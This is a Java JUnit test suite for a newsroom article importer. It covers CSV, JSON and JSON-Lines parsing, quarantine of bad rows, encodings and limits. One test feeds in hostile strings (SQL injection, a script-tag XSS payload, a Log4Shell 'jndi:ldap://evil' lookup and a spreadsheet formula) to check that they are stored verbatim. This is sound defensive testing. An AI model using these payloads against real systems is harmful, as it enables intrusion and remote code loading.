package org.copydesk.review.imports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.copydesk.db.schema.Tables.ARTICLE;
import static org.copydesk.db.schema.Tables.LEASE_EVENT;
import static org.copydesk.review.imports.ImportTestSupport.articles;
import static org.copydesk.review.imports.ImportTestSupport.concat;
import static org.copydesk.review.imports.ImportTestSupport.orphans;
import static org.copydesk.review.imports.ImportTestSupport.quarantinedLines;
import static org.copydesk.review.imports.ImportTestSupport.rawAt;
import static org.copydesk.review.imports.ImportTestSupport.reasonAt;
import static org.copydesk.review.imports.ImportTestSupport.write;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import org.copydesk.db.schema.tables.records.ArticleRecord;
import org.copydesk.testing.DatabaseExtension;
import org.copydesk.testing.TestDatabase;
import org.jooq.DSLContext;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

@ExtendWith(DatabaseExtension.class)
class ArticleImporterTest {

    private final DSLContext dsl;
    private final ArticleImporter importer;
    @TempDir
    Path dir;

    ArticleImporterTest(TestDatabase db) {
        this.dsl = db.dsl();
        this.importer = new ArticleImporter(dsl, Clock.systemUTC());
    }

    @BeforeEach
    void reset() {
        ImportTestSupport.reset(dsl);
    }

    private ImportReport importFile(Path file) {
        ImportReport r = importer.importFile(file, "sam", ImportListener.NONE);
        assertThat(r.imported() + r.alreadyPresent() + r.quarantined()).as("every row accounted for").isEqualTo(r.rowsRead());
        assertThat(orphans(dsl)).as("articles and their import events go together").isZero();
        org.slf4j.LoggerFactory.getLogger(getClass()).info("{}: {} {}", file.getFileName(), r.problems(), r.warnings());
        return r;
    }

    private ArticleRecord article(String externalId) {
        return dsl.selectFrom(ARTICLE).where(ARTICLE.EXTERNAL_ID.eq(externalId)).fetchOne();
    }

    @Test
    void jsonArrayImportsGoodRowsAndQuarantinesBadAndDuplicateOnesByTheLineTheObjectStartsOn() {
        Path file = write(dir, "a.json", """
                [
                  {"external_id": "A-1", "desk": "news", "title": "Council votes", "body": "Text one", "priority": 1},
                  {"external_id": "A-2", "desk": "sport",
                   "title": "Derby", "body": "Text two", "byline": "Kim Lee"},
                  {"external_id": "A-3", "desk": "news", "body": "no title"},
                  {"external_id": "A-4", "desk": "weather", "title": "Rain", "body": "x"},
                  {"external_id": "A-1", "desk": "news", "title": "Again", "body": "dup"},
                  {"external_id": "A-5", "desk": "NEWS", "title": "Late", "body": "Text five"}
                ]
                """);
        ImportReport r = importFile(file);

        assertThat(r.format()).isEqualTo(ImportFormat.JSON_ARRAY);
        assertThat(r.rowsRead()).isEqualTo(6);
        assertThat(r.imported()).isEqualTo(3);
        assertThat(r.quarantined()).isEqualTo(3);
        assertThat(quarantinedLines(dsl, r.importId())).containsExactly(5L, 6L, 7L);
        assertThat(reasonAt(dsl, r.importId(), 5)).isEqualTo("title is missing");
        assertThat(reasonAt(dsl, r.importId(), 6)).contains("desk \"weather\" does not exist");
        assertThat(reasonAt(dsl, r.importId(), 7)).contains("duplicate").contains("line 2");
        assertThat(rawAt(dsl, r.importId(), 5)).isEqualTo("{\"external_id\": \"A-3\", \"desk\": \"news\", \"body\": \"no title\"}");
        assertThat(r.problems()).extracting(ImportProblem::line).containsExactly(5L, 6L, 7L);

        ArticleRecord a1 = article("A-1");
        assertThat(a1.getPriority()).isEqualTo(1);
        assertThat(a1.getDeskId()).isEqualTo("news");
        assertThat(article("A-2").getByline()).isEqualTo("Kim Lee");
        assertThat(article("A-2").getPriority()).isEqualTo(3);
        assertThat(article("A-5").getDeskId()).as("desk ids match ignoring case, stored as the desk's own id").isEqualTo("news");
        List<String> actors = dsl.select(LEASE_EVENT.ACTOR).from(LEASE_EVENT).where(LEASE_EVENT.ACTION.eq("import"))
                .and(LEASE_EVENT.ROW_KEY.eq(String.valueOf(a1.getId()))).fetch(LEASE_EVENT.ACTOR);
        assertThat(actors).containsExactly("sam");
    }

    @Test
    void jsonLinesAreReadLineByLineSoOneBrokenLineHarmsNoOther() {
        Path file = write(dir, "a.ndjson", """
                {"external_id": "L-1", "desk": "news", "title": "One", "body": "b"}

                {"external_id": "L-2", "desk": "news", "title": "Two", "body": "b
                {"external_id": "L-3", "desk": "news", "title": "Three", "body": "b", "priority": 9}
                {"external_id": "L-4", "desk": "news", "title": "Four", "body": "b", "section": "x"}
                [1, 2]
                {"external_id": "L-1", "desk": "news", "title": "One again", "body": "b"}
                {"external_id": "L-5", "desk": "news", "title": "Five", "body": "b"} {"x": 1}
                """);
        ImportReport r = importFile(file);
        assertThat(r.format()).isEqualTo(ImportFormat.JSON_LINES);
        assertThat(r.rowsRead()).isEqualTo(7);
        assertThat(r.imported()).isEqualTo(2);
        assertThat(quarantinedLines(dsl, r.importId())).containsExactly(3L, 4L, 6L, 7L, 8L);
        assertThat(reasonAt(dsl, r.importId(), 3)).startsWith("not valid JSON at line 3");
        assertThat(reasonAt(dsl, r.importId(), 4)).contains("priority must be from 1 (most urgent) to 5, not 9");
        assertThat(reasonAt(dsl, r.importId(), 6)).startsWith("not a JSON object");
        assertThat(reasonAt(dsl, r.importId(), 7)).contains("already appeared on line 1");
        assertThat(reasonAt(dsl, r.importId(), 8)).contains("more text follows the object");
        assertThat(r.warnings()).containsExactly("unknown field \"section\" ignored (in 1 row)");
    }

    @Test
    void csvWithAQuotedMultiLineFieldReportsEachRecordByItsFirstLine() {
        Path file = write(dir, "a.csv", """
                external_id,desk,title,body,byline,priority,available_at
                C-1,news,"Quoted, with comma","Line one
                line two ""quoted""\",,2,
                C-2,sport,Missing body,,,,
                C-3,news,Too many,b,x,3,,extra
                C-4,news,Fine,"b",,5,2030-05-01T12:00:00Z
                C-5,news,"broken "quote,b,,,
                """);
        ImportReport r = importFile(file);
        assertThat(r.format()).isEqualTo(ImportFormat.CSV);
        assertThat(r.rowsRead()).isEqualTo(5);
        assertThat(r.imported()).isEqualTo(2);
        assertThat(quarantinedLines(dsl, r.importId())).containsExactly(4L, 5L, 7L);
        assertThat(reasonAt(dsl, r.importId(), 4)).isEqualTo("body is empty");
        assertThat(reasonAt(dsl, r.importId(), 5)).contains("8 fields but the header has 7");
        assertThat(reasonAt(dsl, r.importId(), 7)).startsWith("not valid CSV");
        assertThat(rawAt(dsl, r.importId(), 4))
                .as("a CSV row is kept with its header so it can be read and requeued on its own")
                .isEqualTo("external_id,desk,title,body,byline,priority,available_at\nC-2,sport,Missing body,,,,");
        assertThat(article("C-1").getBody()).isEqualTo("Line one\nline two \"quoted\"");
        assertThat(article("C-1").getTitle()).isEqualTo("Quoted, with comma");
        assertThat(article("C-4").getAvailableAt()).isEqualTo(LocalDateTime.of(2030, 5, 1, 12, 0));
    }

    @Test
    void semicolonSeparatedCsvWithCrLfLineEndsAndAByteOrderMark() {
        Path file = write(dir, "excel.csv", "\uFEFFExternal_ID;Desk;Title;Body\r\nS-1;news;Un;Texte\r\nS-2;news;Deux;\"a;b\"\r\n");
        ImportReport r = importFile(file);
        assertThat(r.imported()).isEqualTo(2);
        assertThat(article("S-2").getBody()).isEqualTo("a;b");
    }

    @Test
    void reimportingTheSameFileAddsNoArticleTwice() {
        Path file = write(dir, "again.ndjson", """
                {"external_id": "R-1", "desk": "news", "title": "One", "body": "b"}
                {"external_id": "R-2", "desk": "news", "title": "Two", "body": "b"}
                {"external_id": "R-3", "desk": "news", "title": "", "body": "b"}
                """);
        ImportReport first = importFile(file);
        ImportReport second = importFile(file);
        assertThat(first.imported()).isEqualTo(2);
        assertThat(second.imported()).isZero();
        assertThat(second.alreadyPresent()).isEqualTo(2);
        assertThat(second.quarantined()).isEqualTo(1);
        assertThat(articles(dsl)).isEqualTo(2);
        assertThat(dsl.fetchCount(LEASE_EVENT, LEASE_EVENT.ACTION.eq("import"))).isEqualTo(2);
        assertThat(second.importId()).isNotEqualTo(first.importId());
    }

    @Test
    void bytesThatAreNotUtf8QuarantineOnlyTheirRowInEveryFormat() {
        byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF};
        Path ndjson = write(dir, "u.ndjson", concat(
                "{\"external_id\": \"U-1\", \"desk\": \"news\", \"title\": \"Caf\u00e9\", \"body\": \"ok\"}\n",
                "{\"external_id\": \"U-2\", \"desk\": \"news\", \"title\": \"", bad, "\", \"body\": \"x\"}\n",
                "{\"external_id\": \"U-3\", \"desk\": \"news\", \"title\": \"Fine\", \"body\": \"ok\"}\n"));
        ImportReport r = importFile(ndjson);
        assertThat(r.imported()).isEqualTo(2);
        assertThat(quarantinedLines(dsl, r.importId())).containsExactly(2L);
        assertThat(reasonAt(dsl, r.importId(), 2)).contains("line 2 holds the byte 0xC3, which is not UTF-8");
        assertThat(rawAt(dsl, r.importId(), 2)).as("the bytes as Windows-1252 reads them, never U+FFFD")
                .contains("\"title\": \"\u00C3(\u00FF\"").doesNotContain("\uFFFD");
        assertThat(article("U-1").getTitle()).isEqualTo("Caf\u00e9");

        Path array = write(dir, "u.json", concat("[\n{\"external_id\": \"V-1\", \"desk\": \"news\", \"title\": \"\u00e0\", \"body\": \"ok\"},\n",
                "{\"external_id\": \"V-2\", \"desk\": \"news\",\n \"title\": \"", bad, "\", \"body\": \"x\"},\n",
                "{\"external_id\": \"V-3\", \"desk\": \"news\", \"title\": \"c\", \"body\": \"ok\"}\n]\n"));
        r = importFile(array);
        assertThat(r.imported()).isEqualTo(2);
        assertThat(quarantinedLines(dsl, r.importId())).containsExactly(3L);
        assertThat(reasonAt(dsl, r.importId(), 3)).contains("line 4 holds the byte 0xC3, which is not UTF-8");

        // UTF-8 elsewhere in the file (the é), so these are broken bytes in a UTF-8 file, not an 8-bit file
        Path csv = write(dir, "u.csv", concat("external_id,desk,title,body\nW-1,news,Caf\u00e9,b\nW-2,news,", bad,
                ",b\nW-3,news,c,d\n"));
        r = importFile(csv);
        assertThat(r.imported()).isEqualTo(2);
        assertThat(quarantinedLines(dsl, r.importId())).containsExactly(3L);
        assertThat(rawAt(dsl, r.importId(), 3)).isEqualTo("external_id,desk,title,body\nW-2,news,\u00C3(\u00FF,b");
    }

    @Test
    void aTruncatedArrayImportsTheRowsBeforeTheBreakAndQuarantinesTheRest() {
        String whole = """
                [
                  {"external_id": "T-1", "desk": "news", "title": "One", "body": "b"},
                  {"external_id": "T-2", "desk": "news", "title": "Two", "body": "b"},
                  {"external_id": "T-3", "desk": "news", "title": "Three", "body": "the file stops in here
                """;
        ImportReport r = importFile(write(dir, "cut.json", whole));
        assertThat(r.imported()).isEqualTo(2);
        assertThat(r.quarantined()).isEqualTo(1);
        assertThat(reasonAt(dsl, r.importId(), 4)).contains("the file ends inside a string in this object");

        ImportTestSupport.reset(dsl);
        r = importFile(write(dir, "cut2.json", "[{\"external_id\": \"T-1\", \"desk\": \"news\", \"title\": \"One\", \"body\": \"b\"},\n {\"external_id\": \"T-2\", \"de"));
        assertThat(r.imported()).isEqualTo(1);
        assertThat(reasonAt(dsl, r.importId(), 2)).contains("file ends inside");

        ImportTestSupport.reset(dsl);
        r = importFile(write(dir, "cut3.json", "[{\"external_id\": \"T-1\", \"desk\": \"news\", \"title\": \"One\", \"body\": \"b\"},\n"));
        assertThat(r.imported()).isEqualTo(1);
        assertThat(r.quarantined()).isZero();
        assertThat(r.warnings()).anyMatch(w -> w.contains("not closed"));
    }

    @Test
    void hugeFieldsAreQuarantinedWithTheirTextCutAndSaidSo() {
        String hugeBody = "x".repeat(17 * 1024 * 1024);
        String longTitle = "t".repeat(301);
        Path file = write(dir, "huge.ndjson", "{\"external_id\": \"H-1\", \"desk\": \"news\", \"title\": \"ok\", \"body\": \"" + hugeBody + "\"}\n"
                + "{\"external_id\": \"H-2\", \"desk\": \"news\", \"title\": \"" + longTitle + "\", \"body\": \"b\"}\n"
                + "{\"external_id\": \"H-3\", \"desk\": \"news\", \"title\": \"big but fine\", \"body\": \"" + "y".repeat(2_000_000) + "\"}\n"
                + "{\"external_id\": \"" + "i".repeat(129) + "\", \"desk\": \"news\", \"title\": \"t\", \"body\": \"b\"}\n");
        ImportReport r = importFile(file);
        assertThat(r.imported()).isEqualTo(1);
        assertThat(article("H-3").getBody()).hasSize(2_000_000);
        assertThat(reasonAt(dsl, r.importId(), 1)).startsWith("body is " + (17 * 1024 * 1024) + " bytes");
        assertThat(reasonAt(dsl, r.importId(), 2)).contains("title is 301 characters long");
        assertThat(reasonAt(dsl, r.importId(), 4)).contains("external_id is longer than 128");
        String raw = rawAt(dsl, r.importId(), 1);
        assertThat(raw.length()).isLessThan(70 * 1024);
        assertThat(raw).contains("truncated by the import");
    }

    @Test
    void wrongTypesAreRefusedWithTheFieldNamed() {
        Path file = write(dir, "types.ndjson", """
                {"external_id": "Y-1", "desk": "news", "title": 42, "body": "b"}
                {"external_id": "Y-2", "desk": "news", "title": "t", "body": ["a"]}
                {"external_id": "Y-3", "desk": "news", "title": "t", "body": "b", "priority": "high"}
                {"external_id": "Y-4", "desk": "news", "title": "t", "body": "b", "priority": 2.5}
                {"external_id": "Y-5", "desk": "news", "title": "t", "body": "b", "available_at": 1700000000}
                {"external_id": "Y-6", "desk": "news", "title": "t", "body": "b", "available_at": "tomorrow"}
                {"external_id": true, "desk": "news", "title": "t", "body": "b"}
                {"external_id": "Y-8", "desk": "news", "title": "t", "body": "b", "priority": "2", "byline": null}
                {"external_id": 9, "desk": "news", "title": "numeric id", "body": "b"}
                {"external_id": "Y-10", "desk": "news", "title": "tab\\there", "body": "b"}
                {"external_id": "Y-11", "desk": "news", "title": "t", "body": "nul\\u0000here"}
                {"external_id": "Y-12", "desk": "news", "title": "\\ud800", "body": "b"}
                {"external_id": "Y-13", "desk": "news", "title": "t", "body": "b", "TITLE": "again"}
                """);
        ImportReport r = importFile(file);
        assertThat(r.imported()).isEqualTo(2);
        assertThat(article("Y-8").getPriority()).isEqualTo(2);
        assertThat(article("9")).isNotNull();
        assertThat(reasonAt(dsl, r.importId(), 1)).isEqualTo("title must be text, not a whole number");
        assertThat(reasonAt(dsl, r.importId(), 2)).isEqualTo("body must be text, not an array");
        assertThat(reasonAt(dsl, r.importId(), 3)).contains("priority must be a whole number");
        assertThat(reasonAt(dsl, r.importId(), 4)).contains("priority must be a whole number").contains("decimal");
        assertThat(reasonAt(dsl, r.importId(), 5)).contains("available_at must be an ISO-8601");
        assertThat(reasonAt(dsl, r.importId(), 6)).contains("\"tomorrow\" is not an ISO-8601");
        assertThat(reasonAt(dsl, r.importId(), 7)).isEqualTo("external_id must be text, not true/false");
        assertThat(reasonAt(dsl, r.importId(), 10)).contains("title contains the control character U+0009");
        assertThat(reasonAt(dsl, r.importId(), 11)).contains("body contains the control character U+0000");
        assertThat(reasonAt(dsl, r.importId(), 12)).contains("unpaired surrogate");
        assertThat(reasonAt(dsl, r.importId(), 13)).contains("appears twice");
    }

    @Test
    void textThatLooksLikeAnAttackIsStoredVerbatim() {
        String title = "Robert'); DROP TABLE article;-- \u2603 \uD83D\uDCF0";
        String body = "<script>alert('x')</script> ${jndi:ldap://evil/a} \\' OR 1=1 -- %s %n \u202Eevil";
        String json = "{\"external_id\": \"X-1' OR '1'='1\", \"desk\": \"news\", \"title\": " + jsonString(title)
                + ", \"body\": " + jsonString(body) + ", \"byline\": \"=HYPERLINK(\\\"http://x\\\")\"}";
        ImportReport r = importFile(write(dir, "inject.ndjson", json + "\n"));
        assertThat(r.imported()).isEqualTo(1);
        ArticleRecord a = article("X-1' OR '1'='1");
        assertThat(a.getTitle()).isEqualTo(title);
        assertThat(a.getBody()).isEqualTo(body);
        assertThat(a.getByline()).isEqualTo("=HYPERLINK(\"http://x\")");
        assertThat(dsl.fetchCount(ARTICLE)).isEqualTo(1);
    }

    @Test
    void availableAtWithAnOffsetIsStoredAsUtcAndWithoutOneIsTakenAsUtc() {
        Path file = write(dir, "times.ndjson", """
                {"external_id": "D-1", "desk": "news", "title": "t", "body": "b", "available_at": "2030-01-01T10:00:00+02:00"}
                {"external_id": "D-2", "desk": "news", "title": "t", "body": "b", "available_at": "2030-01-01T10:00:00Z"}
                {"external_id": "D-3", "desk": "news", "title": "t", "body": "b", "available_at": "2030-01-01T10:00:00.1234567"}
                {"external_id": "D-4", "desk": "news", "title": "t", "body": "b", "available_at": "2030-07-01T10:00:00+02:00[Europe/Berlin]"}
                {"external_id": "D-5", "desk": "news", "title": "t", "body": "b", "available_at": "2030-01-01 10:00:00"}
                {"external_id": "D-6", "desk": "news", "title": "t", "body": "b", "available_at": "2030-02-30T10:00:00Z"}
                {"external_id": "D-7", "desk": "news", "title": "t", "body": "b"}
                """);
        LocalDateTime before = dsl.fetchValue(org.copydesk.lease.ServerClock.now());
        ImportReport r = importFile(file);
        assertThat(r.imported()).isEqualTo(6);
        assertThat(article("D-1").getAvailableAt()).isEqualTo(LocalDateTime.of(2030, 1, 1, 8, 0));
        assertThat(article("D-2").getAvailableAt()).isEqualTo(LocalDateTime.of(2030, 1, 1, 10, 0));
        assertThat(article("D-3").getAvailableAt()).isEqualTo(LocalDateTime.of(2030, 1, 1, 10, 0, 0, 123_456_000));
        assertThat(article("D-4").getAvailableAt()).isEqualTo(LocalDateTime.of(2030, 7, 1, 8, 0));
        assertThat(article("D-5").getAvailableAt()).isEqualTo(LocalDateTime.of(2030, 1, 1, 10, 0));
        assertThat(reasonAt(dsl, r.importId(), 6)).contains("not an ISO-8601");
        assertThat(article("D-7").getAvailableAt()).as("no embargo: the server's now").isAfterOrEqualTo(before);
    }

    @Test
    void idsAreExactSoIdsThatDifferOnlyInCaseOrAccentsAreDifferentArticles() {
        Path file = write(dir, "case.ndjson", """
                {"external_id": "K-1", "desk": "news", "title": "t", "body": "b"}
                {"external_id": "k-1", "desk": "news", "title": "t", "body": "b"}
                {"external_id": "K-2 ", "desk": "news", "title": "t", "body": "b"}
                {"external_id": "K-2", "desk": "news", "title": "t", "body": "b"}
                {"external_id": "Caf\u00e9-1", "desk": "news", "title": "t", "body": "b"}
                {"external_id": "Cafe-1", "desk": "news", "title": "t", "body": "b"}
                """);
        ImportReport r = importFile(file);
        assertThat(r.imported()).isEqualTo(5);
        assertThat(reasonAt(dsl, r.importId(), 4)).as("ids are trimmed").contains("already appeared on line 3");
        assertThat(article("k-1").getId()).isNotEqualTo(article("K-1").getId());
        assertThat(article("Caf\u00e9-1").getId()).isNotEqualTo(article("Cafe-1").getId());

        // and against articles already there: only the exact id is already present
        ImportReport again = importFile(write(dir, "case2.ndjson", """
                {"external_id": "k-2", "desk": "news", "title": "t", "body": "b"}
                {"external_id": "K-2", "desk": "news", "title": "t", "body": "b"}
                """));
        assertThat(again.imported()).isEqualTo(1);
        assertThat(again.alreadyPresent()).isEqualTo(1);
        assertThat(again.warnings()).isEmpty();
    }

    @Test
    void utf16FilesAreReadWithOrWithoutAByteOrderMark() {
        String csv = "external_id,desk,title,body\n%s,news,Caf\u00e9 \u20ac,b\u00f6dy\n";
        ImportReport le = importFile(write(dir, "le.csv", concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                String.format(csv, "Z-1").getBytes(StandardCharsets.UTF_16LE))));
        ImportReport be = importFile(write(dir, "be.csv", concat(new byte[] {(byte) 0xFE, (byte) 0xFF},
                String.format(csv, "Z-2").getBytes(StandardCharsets.UTF_16BE))));
        ImportReport bare = importFile(write(dir, "bare.csv", String.format(csv, "Z-3").getBytes(StandardCharsets.UTF_16LE)));

        assertThat(List.of(le, be, bare)).allSatisfy(r -> assertThat(r.imported()).as(r.toString()).isEqualTo(1));
        assertThat(List.of("Z-1", "Z-2", "Z-3")).allSatisfy(id -> {
            assertThat(article(id).getTitle()).isEqualTo("Caf\u00e9 \u20ac");
            assertThat(article(id).getBody()).isEqualTo("b\u00f6dy");
        });
    }

    @Test
    void anEmptyFileOrAHeaderOnlyImportsNothing() {
        ImportReport r = importFile(write(dir, "empty.json", "  \n"));
        assertThat(r.rowsRead()).isZero();
        assertThat(r.warnings()).containsExactly("no rows: the file is empty");
        r = importFile(write(dir, "header.csv", "external_id,desk,title,body\n"));
        assertThat(r.rowsRead()).isZero();
        assertThat(r.warnings()).containsExactly("no rows: the file holds only its header line");
        r = importFile(write(dir, "none.json", "[ ]"));
        assertThat(r.warnings()).containsExactly("no rows: the file holds no article");
    }

    @Test
    void aCsvHeaderWithoutARequiredColumnRefusesTheFileOnceAndKeepsNoRowAside() {
        Path file = write(dir, "nohead.csv", "id,desk,title\n1,news,a\n2,news,c\n3,news,e\n");
        assertThatThrownBy(() -> importer.importFile(file, "sam", ImportListener.NONE))
                .isInstanceOf(ImportFailedException.class)
                .hasMessage("the header row (line 1) cannot be used: it has no columns \"external_id\", \"body\" (its columns:"
                        + " id, desk, title); every article needs external_id, desk, title, body");
        assertThat(dsl.fetchCount(org.copydesk.db.schema.Tables.IMPORT_QUARANTINE)).isZero();
        assertThat(articles(dsl)).isZero();
    }

    @Test
    void contentDecidesWhenTheNameHasNoKnownExtension() {
        String ndjson = "{\"external_id\": \"N-1\", \"desk\": \"news\", \"title\": \"t\", \"body\": \"b\"}\n";
        ImportReport r = importer.importStream(new ByteArrayInputStream(ndjson.getBytes(StandardCharsets.UTF_8)), "pipe",
                -1, "sam", ImportListener.NONE);
        assertThat(r.format()).isEqualTo(ImportFormat.JSON_LINES);
        assertThat(r.imported()).isEqualTo(1);
        r = importer.importStream(new ByteArrayInputStream("external_id\tdesk\ttitle\tbody\nN-2\tnews\tt\tb\n"
                .getBytes(StandardCharsets.UTF_8)), null, -1, "sam", ImportListener.NONE);
        assertThat(r.format()).isEqualTo(ImportFormat.CSV);
        assertThat(r.imported()).isEqualTo(1);
    }

    @Test
    void progressIsReportedAndCancellingStopsWithEveryRowReadAccountedFor() {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < 3000; i++) {
            sb.append("{\"external_id\": \"P-").append(i).append("\", \"desk\": \"news\", \"title\": \"t\", \"body\": \"b\"}\n");
        }
        Path file = write(dir, "progress.ndjson", sb.toString());
        List<ImportProgress> seen = new ArrayList<>();
        ImportReport r = new ArticleImporter(dsl, Clock.systemUTC(), new ImportSettings(500, 4 << 20, 100, 65536,
                java.time.Duration.ofMillis(100))).importFile(file, "sam", new ImportListener() {
                    @Override
                    public void progress(ImportProgress progress) {
                        seen.add(progress);
                    }

                    @Override
                    public boolean cancelRequested() {
                        return seen.size() >= 2;
                    }
                });
        assertThat(r.cancelled()).isTrue();
        assertThat(r.rowsRead()).isLessThan(3000).isGreaterThan(0);
        assertThat(r.imported()).isEqualTo(r.rowsRead());
        assertThat(articles(dsl)).isEqualTo((int) r.imported());
        assertThat(seen.get(0).totalBytes()).isEqualTo(sb.length());
        assertThat(seen).allMatch(p -> p.fractionRead() >= 0 && p.fractionRead() <= 1);
        assertThat(orphans(dsl)).isZero();
    }

    @Test
    void theDocumentedExamplesImportAsDescribed() {
        org.copydesk.testing.Fixtures.desk(dsl, "culture");
        assertThat(importFile(Path.of("docs/examples/articles.json")).imported()).isEqualTo(3);
        assertThat(article("wire-2025-0002").getAvailableAt()).isEqualTo(LocalDateTime.of(2025, 6, 1, 16, 30));
        assertThat(importFile(Path.of("docs/examples/articles.csv")).imported()).isEqualTo(3);
        ImportReport errors = importFile(Path.of("docs/examples/articles-with-errors.csv"));
        assertThat(errors.imported()).isEqualTo(2);
        assertThat(errors.quarantined()).isEqualTo(5);
        assertThat(errors.problems()).extracting(ImportProblem::line).containsExactly(3L, 4L, 5L, 6L, 7L);
    }

    @Test
    void aMissingFileOrABadActorFailsWithOneClearMessage() {
        assertThatThrownBy(() -> importer.importFile(dir.resolve("nope.json"), "sam", ImportListener.NONE))
                .isInstanceOf(ImportFailedException.class).hasMessageContaining("no such file");
        assertThatThrownBy(() -> importer.importFile(write(dir, "x.json", "[]"), " ", ImportListener.NONE))
                .isInstanceOf(IllegalArgumentException.class);
    }

    private static String jsonString(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                default -> b.append(c);
            }
        }
        return b.append('"').toString();
    }
}
